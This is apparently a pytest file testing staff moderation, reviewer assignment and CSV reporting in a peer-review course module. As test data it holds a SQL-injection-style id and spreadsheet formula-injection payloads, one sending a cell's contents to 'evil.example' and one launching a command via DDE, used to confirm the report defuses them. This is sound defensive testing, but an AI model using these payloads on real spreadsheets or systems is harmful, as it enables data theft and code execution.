"""Staff operations: progress table, identities, moderation, chosen reviewers, CSV report."""
import csv
import io
from dataclasses import replace

import pytest

from plxblocks.peer import api
from plxblocks.peer.models import Review

from .helpers import (
    GOOD,
    RULES,
    assert_counters,
    author_of,
    review,
    scope,
    snapshot,
    submission_id,
    submitted,
)


def test_progress_table(db):
    s = scope(db)
    submitted(s, "ann", "bob", "cat")
    api.save_draft(s, "dan", "thinking about it")
    review(s, "bob")  # ann's
    held = api.next_submission(s, "cat")  # bob's in progress
    api.flag_submission(s, "cat", held.token, "spam")
    rows = {r.learner: r for r in api.progress(s)}
    assert [r.learner for r in api.progress(s)] == ["ann", "bob", "cat", "dan"]
    assert (rows["ann"].received, rows["bob"].given, rows["bob"].moderation, rows["bob"].flags) == (1, 1, "visible", 1)
    assert (rows["cat"].reports_made, rows["bob"].reports_made) == (1, 0)
    assert (rows["dan"].status, rows["dan"].submitted_at, rows["ann"].grade.points) == ("draft", None, 6)


def test_detail_shows_identities_to_staff(db):
    s = scope(db)
    submitted(s, "ann", "bob")
    review(s, "bob", comments={"impact": "Good <b>work</b>"}, overall="Well done")
    info = api.detail(s, submission_id(s, "ann"))
    assert info["learner"] == "ann" and info["reviews"][0]["reviewer"] == "bob"
    assert info["reviews"][0]["criteria"]["impact"] == {"points": 4, "comment": "Good <b>work</b>"}
    with pytest.raises(api.PeerError) as error:
        api.detail(s, "1; DROP TABLE")
    assert error.value.code == "no_submission"


def test_remove_and_restore_a_flagged_submission(db):
    s = scope(db, rules=replace(RULES, reports_to_hide=1))  # the first report hides it
    submitted(s, "ann", "bob", "cat")
    held = api.next_submission(s, "bob")  # ann's
    api.flag_submission(s, "bob", held.token)
    other = api.next_submission(s, "cat")  # not ann's: hidden
    assert author_of(s, other.token) != "ann"
    assert api.moderate_submission(s, "staff-1", submission_id(s, "ann"), remove=True) == "removed"
    assert api.moderate_submission(s, "staff-1", submission_id(s, "ann"), remove=False) == "approved"
    api.submit_review(s, "cat", other.token, GOOD)
    assert author_of(s, api.next_submission(s, "cat").token) == "ann"  # back in the queue
    flag = api.detail(s, submission_id(s, "ann"))["flags"][0]
    assert (flag["flagger"], flag["resolution"]) == ("bob", "restored")
    assert_counters(db)


def test_staff_see_who_reported_what(db):
    """Issue 11.14: every report with its reporter, whose work it is about and the decision."""
    s = scope(db)
    submitted(s, "ann", "bob", "cat")
    review(s, "bob", overall="Lazy work")  # bob reviews ann's
    held = api.next_submission(s, "cat")
    api.flag_submission(s, "cat", held.token, "copied from the internet")
    while api.reviews_given(s, "ann") < RULES.reviews_to_give:
        review(s, "ann")
    api.flag_review(s, "ann", api.learner_state(s, "ann").received.reviews[0].token, "unkind")
    api.moderate_review(s, "staff-1", Review.objects.using(db).get(reviewer="bob", submission__learner="ann").pk,
                        remove=True)
    found = [(r.flagger, r.author, r.reviewer, r.reason, r.resolution) for r in api.reports(s)]
    assert found == [("cat", author_of(s, held.token), None, "copied from the internet", "pending"),
                     ("ann", "ann", "bob", "unkind", "removed")]
    rows = list(csv.DictReader(io.StringIO(api.csv_report(s))))
    assert {r["learner"]: r["reports_made"] for r in rows} == {"ann": "1", "bob": "0", "cat": "1"}


def test_remove_and_restore_a_review(db):
    s = scope(db)
    submitted(s, "ann", "bob")
    review(s, "bob")
    review_id = Review.objects.using(db).get().pk
    assert api.moderate_review(s, "staff-1", review_id, remove=True) == "removed"
    assert api.progress(s)[0].received == 0 and api.reviews_given(s, "bob") == 0
    assert_counters(db)
    assert api.moderate_review(s, "staff-1", review_id, remove=False) == "approved"
    assert api.progress(s)[0].received == 1 and api.reviews_given(s, "bob") == 1
    assert_counters(db)
    with pytest.raises(api.PeerError) as error:
        api.moderate_review(s, "staff-1", 10**9, remove=True)
    assert error.value.code == "no_review"


def test_allocate_a_specific_reviewer(db):
    s = scope(db)
    submitted(s, "ann", "bob", "cat")
    token = api.assign_reviewer(s, submission_id(s, "cat"), "ann")
    assert api.current_assignment(s, "ann").token == token
    before = snapshot(db)
    for submission, reviewer, code in ((submission_id(s, "cat"), "cat", "own_submission"),
                                       (submission_id(s, "cat"), "ann", "already_allocated"),
                                       (submission_id(s, "bob"), "ann", "reviewer_busy"),
                                       (10**9, "ann", "no_submission"),
                                       (submission_id(s, "bob"), "", "empty")):
        with pytest.raises(api.PeerError) as error:
            api.assign_reviewer(s, submission, reviewer)
        assert error.value.code == code
    assert snapshot(db) == before
    api.save_draft(s, "dan", "a draft")
    with pytest.raises(api.PeerError) as error:
        api.assign_reviewer(s, submission_id(s, "dan"), "bob")
    assert error.value.code == "not_submitted"


def test_csv_report(db):
    s = scope(db)
    submitted(s, "ann", "bob")
    review(s, "bob")
    rows = list(csv.DictReader(io.StringIO(api.csv_report(s, {"ann": "=HYPERLINK(\"x\")", "bob": "Bob Jones"}))))
    assert [(r["learner"], r["name"], r["reviews_given"], r["reviews_received"], r["points"]) for r in rows] == [
        ("ann", "'=HYPERLINK(\"x\")", "0", "1", "6"), ("bob", "Bob Jones", "1", "0", "0")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_report_defuses_formulas_in_every_text_cell(db, start):
    """Issue 11.13: only the name column was defused; a learner id (the workbench's ``?student=``,
    another LMS's user id) starting a formula reached the spreadsheet as one."""
    s = scope(db)
    learner = start + 'HYPERLINK("https://evil.example/?"&A1,"Open")'
    submitted(s, learner, "bob")
    review(s, "bob")
    rows = list(csv.DictReader(io.StringIO(api.csv_report(s, {learner: start + "cmd|' /C calc'!A0"}))))
    mine = next(r for r in rows if r["learner"].endswith(learner))
    assert mine["learner"] == "'" + learner and mine["name"] == "'" + start + "cmd|' /C calc'!A0"
    assert (mine["reviews_received"], mine["points"], mine["open_reports"]) == ("1", "6", "0")  # numbers untouched
